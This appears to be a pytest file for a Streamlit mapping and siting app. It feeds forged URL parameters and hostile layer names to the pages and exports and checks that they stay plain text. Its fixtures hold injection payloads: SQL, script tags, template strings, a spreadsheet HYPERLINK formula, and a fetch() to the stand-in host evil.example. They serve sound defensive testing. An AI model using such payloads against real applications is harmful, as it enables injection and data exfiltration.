"""Forged addresses and hostile layers on the analysis pages: a sentence each, never a number or a way in."""

from __future__ import annotations

import io
import json
import re
from dataclasses import replace
from typing import Any, cast

import numpy as np
import openpyxl
import pytest
import shapely
from PIL import Image
from streamlit.testing.v1 import AppTest

from data.exports.exhibit import exhibit_book, exhibit_geojson
from layers.labels import ZH
from projects.analysis.coverage.choosing import See
from projects.analysis.exhibit import Exhibit
from projects.analysis.inputs import LayerKind, PointLayer, ShapeLayer
from projects.analysis.siting import candidates
from projects.identity import NOBODY
from services import exhibit_picture
from services.map_parts import Shading, Wishes
from tests.fake_analysis import FakeAnalysis, made, settlements
from tests.ui import test_clusters_page, test_coverage_page, test_layers_page
from tests.ui.analysis_shell import AnalysisShell, FakeScenes
from tests.ui.office import desk, html, opened
from tests.ui.test_attacks import leaves
from tests.ui.test_attacks_text import PLAIN
from tests.unit.data.exports_fake import FakeLibrary, request
from views.analysis.clusters import asked as clusters_asked
from views.analysis.clusters.clusters_page import PARTS
from views.analysis.coverage import settings as coverage_settings
from views.analysis.exhibit import view as exhibit_view
from views.analysis.siting import asked as siting_asked

CLUSTERS, COVERAGE = "analysis.clusters.clusters_page", "analysis.coverage.coverage_page"
SITING, LAYERS = "analysis.siting.siting_page", "analysis.layers.layers_page"
AREA = {"prefecture": "440200"}
STRANGE = (
    "1e308",
    "nan",
    "-inf",
    "-1",
    "0",
    "1000000000",
    "9" * 300,
    "1e-320",
    "１２",
    "٣",
    "0x10",
    "1_0",
    "' OR 1=1 --",
    "<script>alert(1)</script>",
    "${7*7}{0}%s",
    "\u202ex\0y",
)
VISITS: tuple[tuple[str, dict[str, str]], ...] = (
    *((CLUSTERS, {"show": name}) for name in PARTS),
    (COVERAGE, {"show": "people"}),
    *((COVERAGE, {"show": "reach", "see": str(see)}) for see in See),
    *((SITING, {"ask": ask, **AREA}) for ask in ("coverage", "budget")),
    (LAYERS, {}),
)
NAMES = {
    CLUSTERS: clusters_asked.ADDRESS._usual,
    COVERAGE: coverage_settings.ADDRESS._usual,
    SITING: siting_asked.ADDRESS._usual,
    LAYERS: {"job": ""},
}


def office(page: str, analysis: FakeAnalysis | None = None, **values: Any) -> Any:
    """Return the shell of fakes that a page is tested with."""
    held = analysis or FakeAnalysis()
    if page == CLUSTERS:
        return test_clusters_page.shell(analysis=held, **values)
    who = desk(**({"identity": values.pop("who"), "units": ()} if "who" in values else {}))
    if page == COVERAGE:
        return test_coverage_page.CoverageShell(who, analysis=held, **values)
    return {SITING: AnalysisShell, LAYERS: test_layers_page.LayerShell}[page](who, analysis=held, **values)


def sound(at: AppTest) -> str:
    """Return what a page says; nothing surprised it, and no parameter became markup."""
    text = html(at)
    assert "这一部分出错了" not in text and "<script" not in text
    return text


@pytest.mark.parametrize(("page", "part"), VISITS, ids=str)
@pytest.mark.parametrize("turn", [0, 5, 10])
def test_strange_values_of_every_parameter_are_sentences(page: str, part: dict[str, str], turn: int) -> None:
    """Each parameter says something else, so that one that is refused does not hide the next."""
    names = [name for name in NAMES[page] if name not in part]
    forged = {name: STRANGE[(turn + at) % len(STRANGE)] for at, name in enumerate(names)}
    sound(opened(page, office(page), **forged, **part))


@pytest.mark.parametrize("page", NAMES)
def test_a_pasted_book_is_not_carried_along(page: str) -> None:
    book = "9" * 2_000_000
    at = opened(page, office(page), **dict.fromkeys([*NAMES[page], "q"], book))
    assert len(sound(at)) < 1_000_000, "what is quoted of it is cut"


@pytest.mark.parametrize(
    ("given", "said"),
    [
        ({"sites": "grid", "grid": "0.2"}, "网格点太多"),
        ({"sites": "grid", "grid": "0.3"}, "后台"),
        ({"sites": "grid", "grid": "2", "apart": "100"}, "相距不到 100 公里的太多"),
    ],
)
def test_a_grid_that_would_fill_the_memory_is_refused_before_it_is_laid(
    given: dict[str, str], said: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The made prefecture has 8,400 km²: over 200,000 points at 200 m, two million near pairs at 2 km."""
    laid: list[float] = []
    grid = candidates.of_grid
    monkeypatch.setattr(candidates, "of_grid", lambda areas, m: laid.append(m) or grid(areas, m))  # type: ignore[func-returns-value]
    monkeypatch.setattr("gis.siting.candidates.LARGEST_GRID", 100_000)
    monkeypatch.setattr("gis.siting.candidates.MOST_CONFLICTS", 1_000_000)
    text = sound(opened(SITING, office(SITING), **AREA, kept="none", **given))
    assert said in text and "atlas-says" not in text
    assert laid == ([2000.0] if "apart" in given else []), "a fine grid is not even laid"


# ---- layers of a hostile owner ----

EVIL = "evil.example"
HOSTILE = (
    f'=HYPERLINK("http://{EVIL}","点") <script>fetch("//{EVIL}")</script>${{7*7}}{{0}} ![x](http://{EVIL}/p.png)'
    " [y](javascript:alert(1)) $\\frac{$ :red[z] \u202e右到左\u2066\x01\x0b\x1f\ufffe",
    "长" * 200,  # the database takes no longer name
)


def loaded(said: str) -> FakeAnalysis:
    """Return an analysis with a layer of each sort whose name, source and points bear a text."""
    found = FakeAnalysis(rows=tuple(replace(row, name=said) for row in made()))
    points = settlements()
    names = (said,) * len(points.ids)
    ids = tuple(f"{one}{said}" for one in points.ids)
    villages = PointLayer(ids, names, points.lonlat, points.people, points.cost, points.capacity)
    square = np.array([shapely.box(113.8, 24.5, 114.0, 24.6)], dtype=object)
    ban = ShapeLayer(square, (said,), np.array([np.nan]))
    found.load(LayerKind.SETTLEMENTS, villages, said, source=said, loaded_by=said)
    found.load(LayerKind.CANDIDATES, villages, said, source=said, shared=True)
    found.load(LayerKind.EXCLUSIONS, ban, said, source=said, own=False)
    return found


USING: tuple[tuple[str, dict[str, str]], ...] = (
    *((COVERAGE, {"show": "reach", "see": see, "demand": "1"}) for see in ("bands", "access")),
    (SITING, {**AREA, "people": "1", "sites": "2", "ban": "3", "km": "12"}),
)


@pytest.fixture
def shown(monkeypatch: pytest.MonkeyPatch) -> list[Exhibit]:
    """The exhibits that pages draw."""
    found: list[Exhibit] = []
    draw = exhibit_view.draw

    def watched(shell: Any, exhibit: Exhibit, *more: Any, **named: Any) -> None:
        found.append(exhibit)
        draw(shell, exhibit, *more, **named)

    monkeypatch.setattr(exhibit_view, "draw", watched)
    return found


def files(exhibit: Exhibit) -> tuple[dict[str, Any], Any, Image.Image]:
    """Return GeoJSON, workbook and picture of an exhibit, read again."""
    library, asked = FakeLibrary(), request()
    held = json.loads(exhibit_geojson(library, asked, exhibit))
    book = openpyxl.load_workbook(io.BytesIO(exhibit_book(library, asked, exhibit)))
    scenes, wishes = cast(Any, FakeScenes()), Wishes(ZH, "某局", shading=Shading("none", "", "", ""))
    drawn = exhibit_picture.exhibit_png(cast(Any, library), scenes, asked, wishes, exhibit)
    picture = Image.open(io.BytesIO(drawn))
    picture.load()
    return held, book, picture


@pytest.mark.parametrize("said", HOSTILE, ids=["steering", "long"])
@pytest.mark.parametrize(("page", "params"), USING, ids=str)
def test_texts_of_a_layer_are_words_on_the_page_and_in_every_file(
    page: str, params: dict[str, str], said: str, shown: list[Exhibit]
) -> None:
    at = opened(page, office(page, loaded(said)), **params)
    text = sound(at)
    assert shown, "else nothing of the layer is shown"
    assert "\u202e" not in text
    for node in (leaf for part in (at.main, at.sidebar) for leaf in leaves(part)):
        kind, held = type(getattr(node, "proto", None)).__name__, str(getattr(node, "proto", ""))
        if kind not in PLAIN:
            assert f"![x](http://{EVIL}" not in held and "](javascript" not in held, (kind, held[:300])
    told, book, picture = files(shown[-1])
    assert said in told["sources"] or any(said in one for one in told["sources"])
    assert not [
        c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f" or c.hyperlink
    ]
    assert picture.width == 2400 and picture.height < 20_000


@pytest.mark.parametrize("said", HOSTILE, ids=["steering", "long"])
def test_texts_of_a_layer_are_words_in_the_list_of_layers(said: str) -> None:
    at = opened(LAYERS, office(LAYERS, loaded(said)))
    text = sound(at)
    assert "\u202e" not in text and EVIL not in re.sub(r">[^<]*<", "", text)
    for node in (leaf for part in (at.main, at.sidebar) for leaf in leaves(part)):
        if type(getattr(node, "proto", None)).__name__ not in PLAIN:
            held = str(getattr(node, "proto", ""))
            assert f"![x](http://{EVIL}" not in held and "](javascript" not in held


def test_without_signing_in_nothing_of_layers_or_jobs_is_offered() -> None:
    at = opened(LAYERS, office(LAYERS, loaded("名"), who=NOBODY), job="1")
    assert "请先登录" in sound(at) and not at.radio and not at.button and "名" not in html(at)
